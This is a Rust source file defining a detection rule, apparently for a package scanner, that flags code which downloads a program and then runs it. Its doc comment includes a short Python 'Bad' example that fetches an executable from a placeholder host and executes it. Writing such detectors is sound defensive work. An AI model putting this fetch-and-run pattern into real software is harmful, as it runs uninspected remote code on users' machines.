//! ## What it detects
//!
//! A file that code writes with what came over the network and then runs, once somebody calls that code.
//!
//! ## Why it is bad
//!
//! What is run is not in the package, and nobody has inspected it; who answers at the address decides.
//!
//! ## Innocent lookalikes
//!
//! Wrappers of a program fetch it when it is first used.
//!
//! ## Bad
//!
//! ```python pkg/__init__.py
//! import subprocess, urllib.request
//! def start():
//!     urllib.request.urlretrieve('http://x.example.invalid/tool.exe', '/tmp/tool.exe')
//!     subprocess.run(['/tmp/tool.exe'])
//! ```
//!
//! ## Good
//!
//! ```python pkg/__init__.py
//! import subprocess
//! def start():
//!     subprocess.run(['tool'])
//! ```

use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::downloaded_command::runs_of_downloads;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("downloaded-tool"),
    title: "fetches a program when it is used",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 0.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in runs_of_downloads(package) {
        if !call.trigger.is_some_and(Trigger::is_unasked) {
            hits.call(unit, call, "runs a file that it has downloaded");
        }
    }
}
